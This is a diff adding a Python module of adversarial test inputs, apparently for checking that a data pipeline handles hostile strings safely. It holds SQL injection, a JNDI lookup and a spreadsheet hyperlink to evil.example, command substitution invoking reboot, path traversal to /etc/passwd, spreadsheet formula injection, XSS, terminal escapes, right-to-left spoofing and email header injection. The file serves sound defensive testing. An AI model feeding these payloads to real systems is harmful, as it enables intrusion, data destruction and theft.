@@ -1,0 +1,27 @@
+"""Values that mean something to whoever takes them for code."""
+
+VALUES = {
+    "quote": "x'; DROP TABLE bronze.calls; --",
+    "double quote": 'x" OR "1"="1',
+    "backtick": "x`y``z",
+    "backslash": "x\\' OR 1=1 -- \\",
+    "dollar": "${jndi:ldap://evil.example/a} $(reboot) `reboot` {{7*7}} {customer_id} %s %(x)s",
+    "path": "../../../../etc/passwd",
+    "line break": "one\ntwo\r\nthree",
+    "formula": "=HYPERLINK(\"http://evil.example\",\"open\")",
+    "plus": "+cmd|'/c calc'!A1",
+    "at": "@SUM(1+1)*cmd|'/c calc'!A1",
+    "minus": "-2+3+cmd|'/c calc'!A1",
+    "tab": "\t=1+1",
+    "markup": "</td><script>alert(1)</script><img src=x onerror=alert(1)>",
+    "attribute": "\" onmouseover=\"alert(1)",
+    "mathematics": "$\\frac{$",
+    "escape": "\x1b[2J\x1b]0;owned\x07",
+    "nul": "a\x00b",
+    "right to left": "\u202etxt.exe\u202c\u2066x\u2069",
+    "line separator": "a\u2028b\u2029c\u0085d",
+    "astral": "🙂\U0010ffff\ufffe",
+    "long": "a" * 200_000,
+    "nested": "[" * 20_000,
+    "header": "x\r\nBcc: everybody@evil.example\r\n\r\nbody",
+}  # fmt: skip
